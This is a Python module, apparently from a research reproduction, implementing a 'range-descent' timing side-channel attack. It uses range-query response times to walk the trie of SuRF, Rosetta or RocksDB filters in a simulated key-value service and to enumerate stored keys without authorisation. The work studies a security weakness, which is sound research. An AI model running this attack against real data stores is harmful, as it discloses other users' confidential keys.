"""Range-descent siphoning: the range-query attack the paper anticipates.

The paper's point-query attack deliberately never issues range queries and
leaves "exploring attacks against range queries to future work" (section
5); its mitigation discussion warns that maintaining separate point/range
filters "will not block attacks that target range queries (which we
believe are possible, and are currently exploring)" (section 11).  This
module realizes that anticipated attack.

The primitive is a *range membership test*: a ``range_query(low, high)``
whose range every filter rejects is served without I/O, so — exactly as
with point queries — its response time reveals the filter's one-sided
answer to "does any stored key lie in [low, high]?".  Unlike FindFPK's
random guessing, the attacker can now walk the dataset's trie directly:
for each one-symbol extension of a known-occupied prefix, one range test
says whether the branch is occupied.

For *pruned* tries (SuRF) the walk cannot refine below a pruned leaf —
every subrange of a leaf's span is ambiguous-positive.  The attack detects
that boundary with a **singleton probe**: a random full-width key under
the prefix queried as a one-key range.  A true branch answers negative
(the random key misses its sparse children w.h.p.); a pruned leaf answers
positive for anything.  At the boundary the attack emits the prefix and
falls back to the paper's step-3 suffix extension.  The result is the
systematic analogue of steps 1+2: instead of the small random fraction of
prefixes FindFPK surfaces, range descent enumerates *every* stored key's
pruned prefix in lexicographic order, at O(|alphabet|) range tests per
trie node.

Against Rosetta — which defeats the point-query attack — range descent is
*worse*: Rosetta's per-level Bloom filters resolve ranges all the way to
full-width keys, so the descent enumerates exact keys with no extension
step at all, confirming section 11's caution that non-vulnerable point
behaviour does not imply non-vulnerable range behaviour.

RocksDB's PBF only answers within-prefix ranges and conservatively passes
everything wider, which stalls the descent in ambiguity immediately; the
tests pin that down.
"""

from __future__ import annotations

import abc
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from repro.common.errors import AttackError, ConfigError
from repro.common.rng import make_rng
from repro.core.extension import extend_prefix
from repro.core.oracle import ProbeOracle
from repro.storage.background import BackgroundLoad
from repro.system.responses import Status
from repro.system.service import KVService

#: Alphabet size; symbols are bytes throughout the reproduction.
_ALPHABET = 256
#: Queries averaged per timing classification (the paper's section 9).
ROUNDS = 4
#: Point probes used to verify a flagged leaf before paying for its
#: suffix extension.  SuRF-Real verifies in one probe (its stored suffix
#: byte is deterministic).
VERIFY_PROBES = 4
#: How many consecutive flagged-but-rejected siblings may trigger an
#: extra level of descent before the run is written off as a pruned
#: leaf's ambiguous shadow (see ``_descend``).
REJECT_DESCEND_LIMIT = 2


class RangeOracle(ProbeOracle):
    """Attacker-side range membership test with query accounting."""

    def __init__(self, service: KVService, attacker_user: int) -> None:
        self.service = service
        self.attacker_user = attacker_user
        self.range_queries = 0
        self.point_queries = 0

    @abc.abstractmethod
    def range_may_contain(self, low: bytes, high: bytes) -> bool:
        """One-sided emptiness test for ``[low, high]``."""

    @abc.abstractmethod
    def point_may_contain(self, key: bytes) -> bool:
        """Point-query filter decision (the section-6 primitive), used to
        verify and sharpen range-descent leaf candidates."""

    def probe(self, key: bytes) -> Status:
        """Point probe (step-3 extension and key confirmation)."""
        self.point_queries += 1
        return self.service.get(self.attacker_user, key).status

    @property
    def total_queries(self) -> int:
        """All queries issued (range + point)."""
        return self.range_queries + self.point_queries


class IdealizedRangeOracle(RangeOracle):
    """Exact range-filter decisions from engine debug counters."""

    def range_may_contain(self, low: bytes, high: bytes) -> bool:
        self.range_queries += 1
        return self.service.db.range_filters_pass(low, high)

    def point_may_contain(self, key: bytes) -> bool:
        self.point_queries += 1
        return self.service.db.filters_pass(key)


class TimingRangeOracle(RangeOracle):
    """Range membership via response-time measurement.

    Mirrors the point-query oracle of section 9: ``ROUNDS``-query averages
    against a latency cutoff, with background-load cache churn between
    rounds so positive ranges keep paying I/O.
    """

    def __init__(self, service: KVService, attacker_user: int,
                 cutoff_us: float,
                 background: Optional[BackgroundLoad] = None,
                 wait_us: Optional[float] = None) -> None:
        super().__init__(service, attacker_user)
        if cutoff_us <= 0:
            raise ConfigError(f"cutoff must be positive, got {cutoff_us}")
        self.cutoff_us = cutoff_us
        self.background = background
        if wait_us is None and background is not None:
            wait_us = background.eviction_wait_us()
        self.wait_us = wait_us or 0.0

    def range_may_contain(self, low: bytes, high: bytes) -> bool:
        total = 0.0
        for round_index in range(ROUNDS):
            self.range_queries += 1
            _, elapsed = self.service.range_query_timed(
                self.attacker_user, low, high, limit=1)
            total += elapsed
            if self.background is not None and round_index + 1 < ROUNDS:
                self.background.run_for(self.wait_us)
        return total / ROUNDS >= self.cutoff_us

    def point_may_contain(self, key: bytes) -> bool:
        total = 0.0
        for round_index in range(ROUNDS):
            self.point_queries += 1
            _, elapsed = self.service.get_timed(self.attacker_user, key)
            total += elapsed
            if self.background is not None and round_index + 1 < ROUNDS:
                self.background.run_for(self.wait_us)
        return total / ROUNDS >= self.cutoff_us


@dataclass
class RangeAttackConfig:
    """Knobs of a range-descent run."""

    key_width: int = 5
    #: Stop after this many keys (None = exhaustive enumeration).
    max_keys: Optional[int] = None
    #: Total query budget (None = unbounded).
    max_queries: Optional[int] = None
    #: Restrict the descent below a known prefix (e.g. a table id).
    start_prefix: bytes = b""
    #: Per-prefix budget for the step-3 suffix extension.
    max_extension_queries: int = 1 << 16
    #: How to verify flagged leaves before extending.  "point" (default)
    #: uses point-filter probes + truncation IdPrefix — correct whenever
    #: point and range decisions share the trie (SuRF, Rosetta).  "none"
    #: registers flagged candidates directly, for split-filter stores
    #: whose point filter is an unrelated Bloom (section 11): the range
    #: tests above the pruned leaves are exact, so candidates are true
    #: prefixes, at the cost of never refining below a leaf's depth.
    verify_mode: str = "point"
    seed: int = 0

    def __post_init__(self) -> None:
        if self.key_width <= 0:
            raise ConfigError("key width must be positive")
        if len(self.start_prefix) >= self.key_width:
            raise ConfigError("start prefix must be shorter than the key")
        if self.verify_mode not in ("point", "none"):
            raise ConfigError(f"unknown verify mode {self.verify_mode!r}")


@dataclass
class RangeAttackResult:
    """Outcome of one range-descent run."""

    keys: List[bytes] = field(default_factory=list)
    prefixes_found: List[bytes] = field(default_factory=list)
    range_queries: int = 0
    point_queries: int = 0
    wasted_queries: int = 0
    exhausted_budget: bool = False
    #: (total queries, keys found) checkpoints.
    progress: List[Tuple[int, int]] = field(default_factory=list)

    @property
    def total_queries(self) -> int:
        """All queries issued."""
        return self.range_queries + self.point_queries

    def queries_per_key(self) -> float:
        """Amortized cost per disclosed key."""
        if not self.keys:
            return float("inf")
        return self.total_queries / len(self.keys)


class RangeDescentAttack:
    """Trie walk over the dataset through range-filter timing."""

    def __init__(self, oracle: RangeOracle, config: RangeAttackConfig) -> None:
        self.oracle = oracle
        self.config = config
        self._rng = make_rng(config.seed, "range-descent")
        self._seen_prefixes = set()

    def run(self) -> RangeAttackResult:
        """Execute the descent and return its accounting."""
        result = RangeAttackResult()
        try:
            self._descend(self.config.start_prefix, result)
        except _BudgetExhausted:
            result.exhausted_budget = True
        result.range_queries = self.oracle.range_queries
        result.point_queries = self.oracle.point_queries
        result.progress.append((result.total_queries, len(result.keys)))
        return result

    # ---------------------------------------------------------------- descent

    def _descend(self, prefix: bytes, result: RangeAttackResult) -> None:
        width = self.config.key_width
        # Flagged-but-rejected candidates sometimes deserve one more level
        # of descent: when the candidate sits exactly at a pruned leaf's
        # depth, the discriminating suffix byte is not part of it yet and
        # only the next level's candidates embed it.  But *runs* of
        # flagged-rejected siblings are the shadow of a leaf above (every
        # subrange ambiguous, every suffix byte wrong), where descending
        # cascades uselessly — so reject-descents are rationed per run.
        reject_run = 0
        for symbol in range(_ALPHABET):
            self._check_limits(result)
            candidate = prefix + bytes([symbol])
            low, high = _prefix_range(candidate, width)
            if not self.oracle.range_may_contain(low, high):
                reject_run = 0
                continue
            if len(candidate) == width:
                self._confirm(candidate, result)
                continue
            if not self._looks_pruned(candidate, result):
                self._descend(candidate, result)
                reject_run = 0
                continue
            if self.config.verify_mode == "none":
                self._register(candidate, result)
                continue
            true_prefix = self._resolve_leaf(candidate, result)
            if true_prefix is None:
                result.wasted_queries += VERIFY_PROBES
                if reject_run < REJECT_DESCEND_LIMIT:
                    self._descend(candidate, result)
                reject_run += 1
                continue
            reject_run = 0
            self._register(true_prefix, result)
            if len(true_prefix) <= len(prefix):
                # The pruned leaf sits at or above this level's parent:
                # every sibling would resolve to the same prefix.
                return

    def _looks_pruned(self, prefix: bytes, result: RangeAttackResult) -> bool:
        """Singleton probe: positive for a random key means ambiguity.

        A filter that resolves ranges at full depth (Rosetta) answers the
        singleton negatively w.h.p., so the descent keeps refining; a
        pruned trie (SuRF) answers positively for anything under a leaf.
        Table key-range metadata can clip singletons into false negatives;
        the downstream point verification absorbs the consequences.
        """
        self._check_limits(result)
        probe = prefix + self._rng.random_bytes(
            self.config.key_width - len(prefix))
        return self.oracle.range_may_contain(probe, probe)

    def _resolve_leaf(self, candidate: bytes, result: RangeAttackResult
                      ) -> Optional[bytes]:
        """Verify a flagged leaf with point queries and pin its prefix.

        First find a *witness*: a random full-width key under the
        candidate that passes the point filter (for SuRF-Real this
        succeeds deterministically iff the candidate agrees with the
        stored suffix byte).  Then run the paper's truncation IdPrefix on
        the witness to identify the true shared prefix.  Returns the
        prefix, or None if no witness emerged.
        """
        width = self.config.key_width
        suffix_len = width - len(candidate)
        witness = None
        for _ in range(VERIFY_PROBES):
            self._check_limits(result)
            probe = candidate + self._rng.random_bytes(suffix_len)
            if self.oracle.point_may_contain(probe):
                witness = probe
                break
        if witness is None:
            return None
        # Truncation IdPrefix (section 6.2.2) over the point oracle.
        for length in range(width - 1, 0, -1):
            self._check_limits(result)
            if not self.oracle.point_may_contain(witness[:length]):
                return witness[:length + 1]
        return witness[:1]

    def _register(self, prefix: bytes, result: RangeAttackResult) -> None:
        if prefix in self._seen_prefixes:
            return
        self._seen_prefixes.add(prefix)
        result.prefixes_found.append(prefix)
        self._extend(prefix, result)

    def _extend(self, prefix: bytes, result: RangeAttackResult) -> None:
        """Step-3 suffix extension below an identified pruned prefix.

        Prefixes whose suffix space exceeds the per-prefix budget are
        kept as prefix-only disclosures — the same feasibility rule the
        point attack's step 3 applies.
        """
        self._check_limits(result)
        space = _ALPHABET ** (self.config.key_width - len(prefix))
        if space > self.config.max_extension_queries:
            return
        extension = extend_prefix(
            self.oracle, prefix, self.config.key_width,
            max_queries=self._remaining_budget(),
        )
        if extension.found:
            result.keys.append(extension.key)
            result.progress.append((self.oracle.total_queries,
                                    len(result.keys)))
        else:
            result.wasted_queries += extension.queries_spent

    def _confirm(self, key: bytes, result: RangeAttackResult) -> None:
        self._check_limits(result)
        status = self.oracle.probe(key)
        if status in (Status.UNAUTHORIZED, Status.OK):
            result.keys.append(key)
            result.progress.append((self.oracle.total_queries,
                                    len(result.keys)))
        else:
            result.wasted_queries += 1

    def _remaining_budget(self) -> Optional[int]:
        per_prefix = self.config.max_extension_queries
        if self.config.max_queries is None:
            return per_prefix
        left = self.config.max_queries - self.oracle.total_queries
        return max(1, min(per_prefix, left))

    def _check_limits(self, result: RangeAttackResult) -> None:
        if (self.config.max_keys is not None
                and len(result.keys) >= self.config.max_keys):
            raise _BudgetExhausted()
        if (self.config.max_queries is not None
                and self.oracle.total_queries >= self.config.max_queries):
            raise _BudgetExhausted()


class _BudgetExhausted(Exception):
    """Internal control flow: query budget or key target reached."""


def _prefix_range(prefix: bytes, width: int) -> Tuple[bytes, bytes]:
    """The closed key range covered by ``prefix`` at full ``width``."""
    if len(prefix) > width:
        raise AttackError("prefix longer than the key width")
    pad = width - len(prefix)
    return prefix + b"\x00" * pad, prefix + b"\xff" * pad
